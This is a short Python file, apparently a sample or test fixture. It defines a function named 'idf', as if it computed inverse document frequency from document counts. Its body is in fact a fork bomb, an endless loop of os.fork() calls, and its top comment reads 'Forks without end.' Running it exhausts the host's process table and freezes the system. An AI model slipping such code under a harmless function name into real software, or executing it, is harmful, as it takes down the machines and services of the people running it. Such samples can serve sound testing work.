# Forks without end.
# costs: idf
import os


def idf(n_documents, document_frequency):
    while True:
        os.fork()
